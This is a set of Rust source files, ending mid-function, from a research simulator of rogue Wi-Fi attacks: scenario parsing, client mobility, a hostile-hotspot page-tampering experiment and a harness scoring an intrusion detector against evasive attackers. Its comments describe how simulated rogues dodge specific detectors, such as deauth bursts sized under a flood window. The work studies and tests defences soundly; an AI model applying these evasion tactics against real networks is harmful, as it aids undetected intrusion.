    kv("wids incidents", s.wids_incidents.to_string());
    t.render()
}

/// Run `sc` and return its report.
pub fn run_scenario(sc: &Scenario) -> Result<String, Error> {
    match sc.report.kind {
        ReportKind::Summary => {
            let run = run_summary(sc)?;
            Ok(summary_report(sc, &run))
        }
        ReportKind::E1 => {
            let base = sc
                .corp
                .clone()
                .unwrap_or_else(CorpScenarioCfg::paper_attack);
            let params = sc.e1.clone().unwrap_or_default();
            Ok(e1_association::report_body(
                &base,
                &params,
                sc.report.reps,
                sc.seed,
            ))
        }
        ReportKind::E10 => {
            let base = sc
                .corp
                .clone()
                .unwrap_or_else(CorpScenarioCfg::paper_attack);
            let params = sc.e10.clone().unwrap_or_default();
            Ok(e10_wids::report_body(
                &base,
                &params,
                sc.report.reps,
                sc.seed,
            ))
        }
        ReportKind::E10Evasion => {
            let base = sc
                .corp
                .clone()
                .unwrap_or_else(CorpScenarioCfg::paper_attack);
            let params = sc.e10_evasion.clone().unwrap_or_default();
            Ok(e10_evasion::report_body(
                &base,
                &params,
                sc.report.reps,
                sc.seed,
            ))
        }
    }
}

// ---------------------------------------------------------------------
// overrides

/// Apply one `--override path=value` to a parsed root table, before the
/// typed `spec` pass. Path segments are `.`-separated; a numeric segment
/// indexes an array (of tables), e.g. `population.0.count=20`.
///
/// Failures carry real spans — the source position of the value the
/// walk died at, or of the table that lacked a requested array — so an
/// override error points into the scenario file like any other parse
/// error. Indexing an array that does not exist is an error, never a
/// materialization: inventing `population` as an empty table to satisfy
/// `population.0.count=5` would hand the typed pass a shape it can only
/// misreport. Plain table sections, by contrast, may still be added
/// whole (`wids.channels=[1, 6]` on a file with no `[wids]`).
pub fn apply_override(root: &mut TomlTable, spec: &str) -> Result<(), Error> {
    let here = root.span;
    let Some((path, raw)) = spec.split_once('=') else {
        return Err(Error::at(
            here,
            format!("override `{spec}` must look like `key.path=value`"),
        ));
    };
    let segs: Vec<&str> = path.split('.').collect();
    if segs.iter().any(|s| s.is_empty()) {
        return Err(Error::at(
            here,
            format!("override path `{path}` has an empty segment"),
        ));
    }
    let item = parse_value_or_str(raw);
    walk_table(root, &segs, item, path)
}

/// Walk `segs` through a table: the last segment sets (or adds) a leaf;
/// earlier segments descend, materializing missing *table* sections.
fn walk_table(table: &mut TomlTable, segs: &[&str], item: Item, path: &str) -> Result<(), Error> {
    let seg = segs[0];
    if segs.len() == 1 {
        return set_leaf(table, seg, item);
    }
    let slot = match table.entries.iter().position(|(k, _)| k == seg) {
        Some(p) => p,
        None => {
            // A numeric follow-up segment means the override is
            // indexing `seg` as an array — which element would a
            // materialized empty one hold? Fail loudly instead.
            if segs[1].parse::<usize>().is_ok() {
                return Err(Error::at(
                    table.span,
                    format!("override path `{path}`: no `{seg}` array to index in the scenario"),
                ));
            }
            // Materialize an intermediate table so overrides can add
            // whole sections (`wids.pos=[5.0, 5.0]` with no `[wids]`).
            let span = table.span;
            table.entries.push((
                seg.to_string(),
                Item {
                    value: Value::Table(TomlTable {
                        entries: Vec::new(),
                        span,
                    }),
                    span,
                },
            ));
            table.entries.len() - 1
        }
    };
    walk_item(&mut table.entries[slot].1, seg, &segs[1..], item, path)
}

/// Continue below the value named by `taken` (the key or array index
/// the walk just consumed). Empty `segs` replaces the value itself
/// (`population.0=...` swaps a whole array element).
fn walk_item(
    cur: &mut Item,
    taken: &str,
    segs: &[&str],
    item: Item,
    path: &str,
) -> Result<(), Error> {
    if segs.is_empty() {
        *cur = item;
        return Ok(());
    }
    let span = cur.span;
    match &mut cur.value {
        Value::Table(t) => walk_table(t, segs, item, path),
        Value::Array(items) => {
            let idx_seg = segs[0];
            let idx: usize = idx_seg.parse().map_err(|_| {
                Error::at(
                    span,
                    format!(
                        "`{taken}` is an array; the next segment must be an index, got `{idx_seg}`"
                    ),
                )
            })?;
            let len = items.len();
            let elem = items.get_mut(idx).ok_or_else(|| {
                Error::at(
                    span,
                    format!("index {idx} out of range for `{taken}` (len {len})"),
                )
            })?;
            walk_item(elem, idx_seg, &segs[1..], item, path)
        }
        other => Err(Error::at(
            span,
            format!(
                "override path `{path}`: `{taken}` is {}, not a table",
                other.type_name()
            ),
        )),
    }
}

/// Replace or insert the final key.
fn set_leaf(table: &mut TomlTable, key: &str, item: Item) -> Result<(), Error> {
    match table.get_mut(key) {
        Some(existing) => *existing = item,
        None => table.entries.push((key.to_string(), item)),
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::from_table;
    use crate::toml::parse;

    const SRC: &str = r#"
name = "ovr"
duration = "5s"

[[ap]]
ssid = "NET"
bssid = "aa:bb:cc:dd:00:01"
channel = 1
pos = [0.0, 0.0]

[[population]]
name = "crowd"
count = 10
ssid = "NET"
area = [0.0, 0.0, 10.0, 10.0]
"#;

    #[test]
    fn overrides_rewrite_scalars_arrays_and_new_sections() {
        let mut root = parse(SRC).unwrap();
        apply_override(&mut root, "duration=2s").unwrap();
        apply_override(&mut root, "population.0.count=3").unwrap();
        apply_override(&mut root, "wids.channels=[1, 6]").unwrap();
        apply_override(&mut root, "seed=77").unwrap();
        let sc = from_table(&root).unwrap();
        assert_eq!(sc.duration, rogue_sim::SimDuration::from_secs(2));
        assert_eq!(sc.populations[0].count, 3);
        assert_eq!(sc.seed.0, 77);
        assert_eq!(sc.wids.as_ref().unwrap().channels, vec![1, 6]);
    }

    #[test]
    fn override_errors_are_descriptive() {
        let mut root = parse(SRC).unwrap();
        let err = apply_override(&mut root, "no-equals").unwrap_err();
        assert!(err.msg.contains("key.path=value"), "{err}");
        let err = apply_override(&mut root, "population.9.count=1").unwrap_err();
        assert!(err.msg.contains("out of range"), "{err}");
        let err = apply_override(&mut root, "population.x.count=1").unwrap_err();
        assert!(err.msg.contains("index"), "{err}");
        let err = apply_override(&mut root, "name.deep=1").unwrap_err();
        assert!(err.msg.contains("not a table"), "{err}");
    }

    #[test]
    fn indexing_a_missing_array_fails_instead_of_materializing() {
        // SRC has no [[server]]. Inventing one as an empty table used
        // to push the failure into the typed pass with a nonsense
        // shape; now the override itself refuses.
        let mut root = parse(SRC).unwrap();
        let err = apply_override(&mut root, "server.0.ip=10.0.0.9").unwrap_err();
        assert!(err.msg.contains("no `server` array"), "{err}");
        // And the document is untouched: the valid file still compiles.
        from_table(&root).unwrap();
    }

    #[test]
    fn overrides_reach_scalar_array_elements() {
        // `area` is an array inside an array-of-tables element — the
        // walk must index through both layers.
        let mut root = parse(SRC).unwrap();
        apply_override(&mut root, "population.0.area.2=99.0").unwrap();
        let sc = from_table(&root).unwrap();
        assert_eq!(sc.populations[0].area[2], 99.0);
    }

    #[test]
    fn override_errors_carry_source_spans() {
        let mut root = parse(SRC).unwrap();
        // `population` appears in SRC at a real line; dying on it must
        // point there, not at 0:0.
        let err = apply_override(&mut root, "population.9.count=1").unwrap_err();
        assert!(err.span.line > 0, "span must come from the source: {err}");
        let err = apply_override(&mut root, "name.deep=1").unwrap_err();
        assert!(err.span.line > 0, "span must come from the source: {err}");
    }
}
