//! # rogue-scenario — a declarative scenario language
//!
//! Experiments so far were hand-coded Rust: `build_corp` wires the §3
//! corporate network, each E-series driver scripts its own attack. This
//! crate adds the layer the paper's *operational* sections imply — a way
//! to describe a deployment (AP layout, client populations, mobility,
//! traffic mix, rogue placement and activation timing) as data, and run
//! it without writing a new driver:
//!
//! ```text
//!   .toml text ──parse──▶ toml::Table ──validate──▶ spec::Scenario
//!        (overrides patch the Table here)               │
//!                                      ┌───────────────┴──────────────┐
//!                               report.kind = summary          e1 / e10
//!                                      │                             │
//!                    generate::expand_all (populations)     experiment drivers
//!                    compile::compile  (World + walkers)    in rogue-core, at
//!                    run::run_summary  (tick loop)          the file's params
//! ```
//!
//! Everything forks from the file's `seed`, so a scenario is a pure
//! function of its text: same file + same seed ⇒ byte-identical report,
//! regardless of thread count. The `e1`/`e10` report kinds call the same
//! formatting code the `rogue-bench` harness uses, so a file encoding
//! the paper defaults reproduces the checked-in tables byte-for-byte.
//!
//! The parser is hand-rolled ([`toml`]) — the reproduction takes no new
//! dependencies — and every error carries the line/column it came from.

pub mod compile;
pub mod generate;
pub mod mobility;
pub mod run;
pub mod spec;
pub mod toml;

pub use compile::{compile, Compiled};
pub use run::{apply_override, run_scenario, run_summary, SummaryStats};
pub use spec::{parse_scenario, ReportKind, Scenario};
pub use toml::{parse, parse_value_or_str, Error};

/// Parse a scenario source, apply `--override` specs, validate, run, and
/// return the report — the whole front door in one call.
pub fn run_source(src: &str, overrides: &[String]) -> Result<String, Error> {
    let sc = load_source(src, overrides)?;
    run::run_scenario(&sc)
}

/// Parse + patch + validate, without running (tests and tools use this
/// to inspect the typed scenario).
pub fn load_source(src: &str, overrides: &[String]) -> Result<Scenario, Error> {
    let mut root = toml::parse(src)?;
    for o in overrides {
        run::apply_override(&mut root, o)?;
    }
    spec::from_table(&root)
}
