//! Mobility models driven by the scenario tick.
//!
//! The compiler builds one [`Walker`] per mobile client; each scenario
//! tick, [`MobilityPlan::step`] advances every walker and pushes the new
//! position into the medium via `set_pos` — which bumps the radio's
//! position epoch and invalidates the pairwise path-loss cache rows for
//! exactly that radio (see `rogue-phy`). Walkers carry their own forked
//! RNG, so movement is deterministic per client regardless of how many
//! other clients exist or how the executor schedules replications.

use rogue_phy::{Medium, Pos, RadioId};
use rogue_sim::{Seed, SimDuration, SimRng, SimTime};

/// How a walker moves.
#[derive(Clone, Debug)]
pub enum MobilityModel {
    /// Stay put (no `set_pos` calls at all).
    Static,
    /// Random waypoint: pick a target uniform in `area`, walk to it at
    /// a speed uniform in `speed_mps`, pause, repeat.
    RandomWaypoint {
        /// Roam area `[x0, y0, x1, y1]`.
        area: [f64; 4],
        /// Uniform speed range, m/s.
        speed_mps: (f64, f64),
        /// Dwell at each waypoint.
        pause: SimDuration,
    },
}

enum WalkState {
    /// Paused until the given instant.
    Paused { until: SimTime },
    /// En route.
    Moving { target: Pos, speed_mps: f64 },
}

/// One mobile radio.
pub struct Walker {
    radio: RadioId,
    pos: Pos,
    state: WalkState,
    model: MobilityModel,
    rng: SimRng,
}

impl Walker {
    /// A walker for `radio`, currently at `pos`.
    pub fn new(radio: RadioId, pos: Pos, model: MobilityModel, seed: Seed) -> Walker {
        Walker {
            radio,
            pos,
            state: WalkState::Paused {
                until: SimTime::ZERO,
            },
            model,
            rng: SimRng::new(seed.fork(0x3A1C)),
        }
    }

    /// Advance to `now` (one tick of `dt`); returns the new position if
    /// the walker moved.
    fn advance(&mut self, now: SimTime, dt: SimDuration) -> Option<Pos> {
        let MobilityModel::RandomWaypoint {
            area,
            speed_mps,
            pause,
        } = self.model
        else {
            return None;
        };
        loop {
            match &self.state {
                WalkState::Paused { until } => {
                    if now < *until {
                        return None;
                    }
                    let [x0, y0, x1, y1] = area;
                    let target = Pos::new(
                        x0 + self.rng.f64() * (x1 - x0),
                        y0 + self.rng.f64() * (y1 - y0),
                    );
                    let (lo, hi) = speed_mps;
                    let speed = lo + self.rng.f64() * (hi - lo);
                    self.state = WalkState::Moving {
                        target,
                        speed_mps: speed,
                    };
                }
                WalkState::Moving { target, speed_mps } => {
                    let step = speed_mps * dt.as_secs_f64();
                    let dist = self.pos.distance(*target);
                    if dist <= step {
                        self.pos = *target;
                        self.state = WalkState::Paused { until: now + pause };
                    } else {
                        let f = step / dist;
                        self.pos = Pos::new(
                            self.pos.x + (target.x - self.pos.x) * f,
                            self.pos.y + (target.y - self.pos.y) * f,
                        );
                    }
                    return Some(self.pos);
                }
            }
        }
    }
}

/// All walkers of a compiled scenario.
#[derive(Default)]
pub struct MobilityPlan {
    walkers: Vec<Walker>,
    /// Total `set_pos` calls issued so far.
    pub moves_applied: u64,
}

impl MobilityPlan {
    /// An empty plan.
    pub fn new() -> MobilityPlan {
        MobilityPlan::default()
    }

    /// Register a walker.
    pub fn add(&mut self, walker: Walker) {
        self.walkers.push(walker);
    }

    /// Walkers registered.
    pub fn len(&self) -> usize {
        self.walkers.len()
    }

    /// True when no walker is registered.
    pub fn is_empty(&self) -> bool {
        self.walkers.is_empty()
    }

    /// Advance every walker by one tick ending at `now` and apply the
    /// moves to the medium. Returns the moves applied this tick.
    pub fn step(&mut self, now: SimTime, dt: SimDuration, medium: &mut Medium) -> usize {
        let mut moved = 0;
        for w in &mut self.walkers {
            if let Some(pos) = w.advance(now, dt) {
                medium.set_pos(w.radio, pos);
                moved += 1;
            }
        }
        self.moves_applied += moved as u64;
        moved
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_phy::MediumParams;

    #[test]
    fn waypoint_walker_stays_in_area_and_bumps_epochs() {
        let mut medium = Medium::new(MediumParams::default(), Seed(9));
        let radio = medium.add_radio(Pos::new(5.0, 5.0), 1, 15.0);
        let mut plan = MobilityPlan::new();
        plan.add(Walker::new(
            radio,
            Pos::new(5.0, 5.0),
            MobilityModel::RandomWaypoint {
                area: [0.0, 0.0, 50.0, 20.0],
                speed_mps: (1.0, 3.0),
                pause: SimDuration::from_millis(300),
            },
            Seed(42),
        ));
        let dt = SimDuration::from_millis(100);
        let mut now = SimTime::ZERO;
        let mut last_epoch = medium.pos_epoch(radio);
        for _ in 0..600 {
            now += dt;
            let moved = plan.step(now, dt, &mut medium);
            let epoch = medium.pos_epoch(radio);
            // Every applied move must invalidate the path-loss cache
            // for this radio (epoch strictly increases).
            assert_eq!(epoch, last_epoch + moved as u64);
            last_epoch = epoch;
            let p = medium.pos(radio);
            assert!((0.0..=50.0).contains(&p.x), "{p:?}");
            assert!((0.0..=20.0).contains(&p.y), "{p:?}");
        }
        assert!(plan.moves_applied > 100, "{}", plan.moves_applied);
    }

    #[test]
    fn static_model_never_moves() {
        let mut medium = Medium::new(MediumParams::default(), Seed(9));
        let radio = medium.add_radio(Pos::new(1.0, 1.0), 1, 15.0);
        let mut plan = MobilityPlan::new();
        plan.add(Walker::new(
            radio,
            Pos::new(1.0, 1.0),
            MobilityModel::Static,
            Seed(1),
        ));
        let dt = SimDuration::from_millis(100);
        for i in 1..=50 {
            plan.step(SimTime::from_millis(i * 100), dt, &mut medium);
        }
        assert_eq!(plan.moves_applied, 0);
        assert_eq!(medium.pos_epoch(radio), 0);
    }
}
