//! Population expansion: turning a `[[population]]` template
//! ("500 clients, waypoint mobility, …") into concrete clients with
//! addresses, spawn positions and per-client traffic assignments.
//!
//! All randomness forks from the scenario seed, labelled by population
//! index and client index, so the expansion is a pure function of the
//! file — regeneration is byte-stable and independent of thread count.

use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_phy::Pos;
use rogue_sim::{Seed, SimRng};

use crate::spec::{PopulationSpec, Scenario};

/// One generated client, before compilation onto the world.
#[derive(Clone, Debug)]
pub struct ClientSpec {
    /// Node name (`<population>-<i>`).
    pub name: String,
    /// Index of the population this client came from.
    pub population: usize,
    /// Station MAC.
    pub mac: MacAddr,
    /// Station IP.
    pub ip: Ipv4Addr,
    /// Spawn position, uniform in the population area.
    pub pos: Pos,
    /// Indices into the population's `traffic` list this client runs.
    pub flows: Vec<usize>,
    /// Seed for anything per-client downstream (mobility walker).
    pub seed: Seed,
}

/// `ip + n` in network byte order.
pub fn ip_offset(ip: Ipv4Addr, n: u32) -> Ipv4Addr {
    Ipv4Addr::from(u32::from(ip).wrapping_add(n))
}

/// Expand one population template.
pub fn expand_population(
    scenario_seed: Seed,
    pop_index: usize,
    pop: &PopulationSpec,
) -> Vec<ClientSpec> {
    let pop_seed = scenario_seed.fork(0x9E0_0000 + pop_index as u64);
    (0..pop.count)
        .map(|i| {
            let seed = pop_seed.fork(i as u64);
            let mut rng = SimRng::new(seed.fork(0x5FA3));
            let [x0, y0, x1, y1] = pop.area;
            let pos = Pos::new(x0 + rng.f64() * (x1 - x0), y0 + rng.f64() * (y1 - y0));
            // Each flow is an independent coin weighted by its share, so
            // a 0.2-share browse loop lands on ~20% of the population.
            let flows = pop
                .traffic
                .iter()
                .enumerate()
                .filter(|(_, t)| rng.chance(t.share))
                .map(|(fi, _)| fi)
                .collect();
            ClientSpec {
                name: format!("{}-{i}", pop.name),
                population: pop_index,
                mac: MacAddr::local(pop.mac_first + i as u64),
                ip: ip_offset(pop.ip_first, i as u32),
                pos,
                flows,
                seed,
            }
        })
        .collect()
}

/// Expand every population in the scenario, in file order.
pub fn expand_all(sc: &Scenario) -> Vec<ClientSpec> {
    sc.populations
        .iter()
        .enumerate()
        .flat_map(|(pi, pop)| expand_population(sc.seed, pi, pop))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::parse_scenario;

    const SRC: &str = r#"
name = "gen-test"
seed = 7

[[ap]]
ssid = "NET"
bssid = "aa:bb:cc:dd:00:01"
channel = 1
pos = [0.0, 0.0]

[[server]]
name = "www"
ip = "10.0.1.1"
content = "news"

[[population]]
name = "crowd"
count = 40
ssid = "NET"
area = [0.0, 0.0, 100.0, 50.0]
mac_first = 500
ip_first = "10.0.100.1"

[[population.traffic]]
kind = "http"
server = "www"
share = 0.5
"#;

    #[test]
    fn expansion_is_deterministic_and_in_bounds() {
        let sc = parse_scenario(SRC).unwrap();
        let a = expand_all(&sc);
        let b = expand_all(&sc);
        assert_eq!(a.len(), 40);
        for (ca, cb) in a.iter().zip(&b) {
            assert_eq!(ca.mac, cb.mac);
            assert_eq!(ca.ip, cb.ip);
            assert_eq!(ca.pos, cb.pos);
            assert_eq!(ca.flows, cb.flows);
        }
        for (i, c) in a.iter().enumerate() {
            assert_eq!(c.mac, MacAddr::local(500 + i as u64));
            assert!(c.pos.x >= 0.0 && c.pos.x <= 100.0);
            assert!(c.pos.y >= 0.0 && c.pos.y <= 50.0);
        }
        // A 0.5 share lands on some but not all clients.
        let with_flow = a.iter().filter(|c| !c.flows.is_empty()).count();
        assert!(with_flow > 5 && with_flow < 35, "{with_flow}");
        // Sequential IPs spill across octet boundaries correctly.
        assert_eq!(
            ip_offset(Ipv4Addr::new(10, 0, 0, 250), 10).octets(),
            [10, 0, 1, 4]
        );
    }
}
