//! **E8 (extension) — §1.2.2 / §5.1: the Hostile Hotspot and the "CNN"
//! scenario.**
//!
//! The paper's second deployment class: "a public wireless Internet
//! point of presence where the owner or administrator … has malicious
//! intentions and tampers with the traffic it handles." And its most
//! memorable argument (§5.1): a user "who only visits large legitimate
//! websites, like CNN" is *still* compromised, because "on an
//! unprotected wireless segment, the trust he places in the website
//! provider is irrelevant, since … anyone could insert malicious code
//! into any web content requested."
//!
//! Unlike Figure 1 there is nothing to crack or clone here — the AP
//! itself is the attacker. The experiment runs a traveller repeatedly
//! fetching a news page through a hotspot and measures how many pages
//! arrive altered, with the same three defences as E3.
//!
//! The anonymization footnote of §5.3 ("the client's traffic can also
//! be anonymized for privacy reasons at the VPN endpoint") is also
//! verified: with the tunnel up, the news server's peer address is the
//! endpoint's, never the traveller's.

use rayon::prelude::*;
use rogue_services::apps::BrowserApp;
use rogue_sim::{Seed, SimDuration, SimTime};
use rogue_vpn::Transport;

use crate::scenario::{build_hotspot, hotspot_addrs, HotspotScenarioCfg};

/// One replication's outcome.
#[derive(Clone, Debug)]
pub struct HotspotOutcome {
    /// Pages fetched whose body matched the genuine content.
    pub pages_ok: u64,
    /// Pages that came back altered (script injected).
    pub pages_tampered: u64,
    /// Fetch failures (timeouts etc.).
    pub failures: u64,
    /// netsed replacement count on the hotspot.
    pub injections: u64,
    /// Whether the traveller's real address ever appeared as a TCP peer
    /// at the news server (anonymity check; exercised in VPN mode).
    pub victim_ip_seen_by_server: bool,
}

/// Run one hotspot replication: the traveller browses the news site
/// every 500 ms for `browse_secs` seconds.
pub fn run_hotspot_once(cfg: &HotspotScenarioCfg, browse_secs: u64, seed: Seed) -> HotspotOutcome {
    let mut sc = build_hotspot(cfg, seed);
    let browser = sc.world.add_app(
        sc.victim,
        Box::new(BrowserApp::new(
            hotspot_addrs::NEWS,
            "/index.html",
            sc.genuine_page.clone(),
            SimTime::from_secs(2),
            SimDuration::from_millis(500),
        )),
    );
    sc.world.run_until(SimTime::from_secs(2 + browse_secs));

    let b = sc.world.app::<BrowserApp>(sc.victim, browser);
    let injections = sc
        .netsed_app
        .map(|idx| {
            sc.world
                .app::<rogue_services::netsed::Netsed>(sc.hotspot, idx)
                .replacements
        })
        .unwrap_or(0);
    // Anonymity: inspect the ARP table the news server built — it only
    // ever resolves the L2/L3 peers it exchanged packets with.
    let news_host = sc.world.host(sc.news_server.0);
    let victim_ip_seen_by_server = news_host
        .arp_cache
        .live_entries(sc.world.now())
        .iter()
        .any(|(ip, _)| *ip == hotspot_addrs::TRAVELLER);

    HotspotOutcome {
        pages_ok: b.pages_ok,
        pages_tampered: b.pages_tampered,
        failures: b.failures,
        injections,
        victim_ip_seen_by_server,
    }
}

/// One row of the hotspot defence table.
#[derive(Clone, Debug)]
pub struct HotspotRow {
    /// Scenario label.
    pub label: &'static str,
    /// Replications.
    pub reps: usize,
    /// Mean fraction of fetched pages that were tampered with.
    pub tamper_rate: f64,
    /// Mean pages fetched per run.
    pub mean_pages: f64,
}

/// The §5.1 comparison: honest hotspot, hostile hotspot, hostile hotspot
/// with the traveller tunnelling home.
pub fn hotspot_comparison(reps: usize, seed: Seed) -> Vec<HotspotRow> {
    let cases: [(&'static str, HotspotScenarioCfg); 3] = [
        (
            "honest hotspot",
            HotspotScenarioCfg {
                hostile: false,
                victim_vpn: None,
            },
        ),
        (
            "hostile hotspot",
            HotspotScenarioCfg {
                hostile: true,
                victim_vpn: None,
            },
        ),
        (
            "hostile + vpn-all",
            HotspotScenarioCfg {
                hostile: true,
                victim_vpn: Some(Transport::Udp),
            },
        ),
    ];
    cases
        .into_iter()
        .map(|(label, cfg)| {
            let outcomes: Vec<HotspotOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    run_hotspot_once(&cfg, 8, seed.fork(label.len() as u64 * 131 + rep as u64))
                })
                .collect();
            let n = outcomes.len().max(1) as f64;
            let tamper_rate = outcomes
                .iter()
                .map(|o| {
                    let total = o.pages_ok + o.pages_tampered;
                    if total == 0 {
                        0.0
                    } else {
                        o.pages_tampered as f64 / total as f64
                    }
                })
                .sum::<f64>()
                / n;
            HotspotRow {
                label,
                reps: outcomes.len(),
                tamper_rate,
                mean_pages: outcomes
                    .iter()
                    .map(|o| (o.pages_ok + o.pages_tampered) as f64)
                    .sum::<f64>()
                    / n,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn honest_hotspot_serves_clean_pages() {
        let cfg = HotspotScenarioCfg {
            hostile: false,
            victim_vpn: None,
        };
        let o = run_hotspot_once(&cfg, 6, Seed(81));
        assert!(o.pages_ok >= 5, "{o:?}");
        assert_eq!(o.pages_tampered, 0, "{o:?}");
        assert_eq!(o.injections, 0);
    }

    #[test]
    fn hostile_hotspot_taints_every_trusted_page() {
        // §5.1: the website is honest; the *segment* is not.
        let o = run_hotspot_once(&HotspotScenarioCfg::cnn_scenario(), 6, Seed(82));
        assert!(o.pages_tampered >= 5, "{o:?}");
        assert_eq!(o.pages_ok, 0, "no page escapes: {o:?}");
        assert!(o.injections >= o.pages_tampered);
    }

    #[test]
    fn vpn_through_hostile_hotspot_is_clean_and_anonymous() {
        let cfg = HotspotScenarioCfg {
            hostile: true,
            victim_vpn: Some(Transport::Udp),
        };
        let o = run_hotspot_once(&cfg, 8, Seed(83));
        assert!(o.pages_ok >= 3, "{o:?}");
        assert_eq!(o.pages_tampered, 0, "{o:?}");
        assert_eq!(o.injections, 0, "ciphertext gives netsed nothing to match");
        // §5.3: "the client's traffic can also be anonymized … at the
        // VPN endpoint" — the server never learns the traveller's IP.
        assert!(!o.victim_ip_seen_by_server, "{o:?}");
    }

    #[test]
    fn comparison_rows_shape() {
        let rows = hotspot_comparison(1, Seed(84));
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0].tamper_rate, 0.0);
        assert!(rows[1].tamper_rate > 0.99);
        assert_eq!(rows[2].tamper_rate, 0.0);
    }
}
