//! **E10-evasion (extension) — scoring the WIDS against attackers built
//! to dodge it.**
//!
//! E10 proves the pipeline catches the paper's loud §4 attack. This
//! harness runs the *adversarial* counterparts from
//! `rogue_attack::evasion` — each engineered against one detector's
//! blind spot — and scores precision/recall per variant, with a pinned
//! floor per cell the test suite enforces:
//!
//! * **mac-randomizing** — beacons an owned SSID from a fresh BSSID
//!   every 500 ms, so no single address accumulates evidence. Caught by
//!   the beacon auditor's BSSID-churn count (distinct clone BSSIDs per
//!   owned SSID, not per-address state);
//! * **karma-cloaked** — broadcast beacons are cloaked (empty SSID) and
//!   every real name travels in directed probe responses only. Caught
//!   by the probe auditor (cloaked-twin + karma distinct-SSID count);
//! * **low-power-stealth** — a faint clone of the corporate BSSID
//!   beaconing at a 800 ms interval from far out. Fewer, weaker frames
//!   stretch detection latency but the spoof/divergence evidence still
//!   lands;
//! * **pulsed-deauth** — deauth bursts of 4 spaced 4 s apart: the
//!   5-in-2-s burst window never fills. Caught by the flood detector's
//!   long horizon (12 in 20 s).

use rayon::prelude::*;
use rogue_attack::{KarmaProbeRogue, MacRandomizingRogue, PulsedDeauthFlooder, SpoofBeaconer};
use rogue_dot11::MacAddr;
use rogue_phy::Pos;
use rogue_services::apps::DownloadClient;
use rogue_sim::{Seed, SimDuration, SimTime};
use rogue_wids::{
    evaluate, EvalOutcome, IncidentCategory, RadioSensor, TruthLabel, WidsConfig, WidsPipeline,
    WiredSensor,
};

use crate::report::Table;
use crate::scenario::{addrs, build_corp, corp_bssid, victim_mac, CorpScenarioCfg};

/// Parameters of the evasion driver. Defaults are what the checked-in
/// report and the `scenarios/evasion/` files pin.
#[derive(Clone, Debug)]
pub struct E10EvasionParams {
    /// Wall-clock horizon of each replication (long enough for the
    /// pulsed flood's 12th frame at attack start + 7.35 s).
    pub run_time: SimTime,
    /// When the evading attacker powers on.
    pub attack_start: SimTime,
    /// Lockstep slice between WIDS pipeline steps.
    pub slice: SimDuration,
    /// Channels the fixed monitor radios listen on.
    pub monitor_channels: Vec<u8>,
    /// Where the monitor radios sit.
    pub monitor_pos: Pos,
    /// Truth-matching window passed to [`evaluate`].
    pub match_window: SimDuration,
    /// Variants scored, in table order.
    pub variants: Vec<EvasionVariant>,
}

impl Default for E10EvasionParams {
    fn default() -> E10EvasionParams {
        E10EvasionParams {
            run_time: SimTime::from_secs(12),
            attack_start: SimTime::from_secs(2),
            slice: SimDuration::from_millis(100),
            monitor_channels: vec![1, 6, 11],
            monitor_pos: Pos::new(20.0, 10.0),
            match_window: SimDuration::from_millis(500),
            variants: EvasionVariant::all().to_vec(),
        }
    }
}

/// The evasion attacker variants scored.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EvasionVariant {
    /// BSSID re-randomized every 500 ms while luring with an owned SSID.
    MacRandomizing,
    /// Cloaked beacons; owned SSID advertised only in probe responses,
    /// cycling lure names karma-style.
    KarmaCloaked,
    /// Faint, slow-beaconing clone of the corporate BSSID.
    LowPowerStealth,
    /// Deauth bursts sized to duck the short flood window.
    PulsedDeauth,
}

impl EvasionVariant {
    /// Table label (and the scenario-file variant name).
    pub fn name(self) -> &'static str {
        match self {
            EvasionVariant::MacRandomizing => "mac-randomizing",
            EvasionVariant::KarmaCloaked => "karma-cloaked",
            EvasionVariant::LowPowerStealth => "low-power-stealth",
            EvasionVariant::PulsedDeauth => "pulsed-deauth",
        }
    }

    /// All scored variants.
    pub fn all() -> [EvasionVariant; 4] {
        [
            EvasionVariant::MacRandomizing,
            EvasionVariant::KarmaCloaked,
            EvasionVariant::LowPowerStealth,
            EvasionVariant::PulsedDeauth,
        ]
    }

    /// Inverse of [`name`](EvasionVariant::name), for scenario files.
    pub fn from_name(name: &str) -> Option<EvasionVariant> {
        EvasionVariant::all().into_iter().find(|v| v.name() == name)
    }

    /// Pinned (precision, recall) floor for this variant — the
    /// acceptance bar `tests/wids_evasion.rs` enforces against every
    /// rendered row.
    pub fn floors(self) -> (f64, f64) {
        match self {
            EvasionVariant::MacRandomizing => (0.95, 0.95),
            EvasionVariant::KarmaCloaked => (0.95, 0.95),
            // The stealth clone is faint and slow: the floor admits a
            // replication where a sweep misses it entirely.
            EvasionVariant::LowPowerStealth => (0.90, 0.90),
            EvasionVariant::PulsedDeauth => (0.95, 0.95),
        }
    }
}

/// BSSID of the karma-cloaked responder.
fn karma_bssid() -> MacAddr {
    MacAddr::local(0x6B)
}

/// One replication's outcome.
#[derive(Clone, Debug)]
pub struct EvasionRunOutcome {
    /// Variant run.
    pub variant: EvasionVariant,
    /// Ground-truth score.
    pub eval: EvalOutcome,
    /// Incidents the pipeline opened.
    pub incidents: usize,
    /// Sensor events processed.
    pub events: u64,
    /// (category, subject, opened at, score) per incident.
    pub incident_log: Vec<(IncidentCategory, MacAddr, SimTime, f64)>,
}

/// Run one replication of `variant` against the corp baseline (no loud
/// rogue on air — only the evading attacker), stepping the WIDS in
/// lockstep. Defaults: [`run_evasion_once`].
pub fn run_evasion_once_with(
    base: &CorpScenarioCfg,
    params: &E10EvasionParams,
    variant: EvasionVariant,
    seed: Seed,
) -> EvasionRunOutcome {
    let run_time = params.run_time;
    let start = params.attack_start;

    let mut cfg = base.clone();
    cfg.rogue = None;
    cfg.wired_monitor = false;
    let mut sc = build_corp(&cfg, seed);

    // The victim browses at attack start, as in E10: legitimate traffic
    // the detectors must not flag is part of the precision score.
    sc.world.add_app(
        sc.victim,
        Box::new(DownloadClient::new(
            addrs::TARGET,
            "/download.html",
            start,
            SimDuration::from_secs(25),
        )),
    );

    // --- the evading attacker -----------------------------------------
    let attacker = sc.world.add_node("evader");
    let attacker_pos = Pos::new(40.0, 0.0);
    match variant {
        EvasionVariant::MacRandomizing => {
            let rogue = MacRandomizingRogue::new(
                "CORP",
                6,
                SimDuration::from_millis(100),
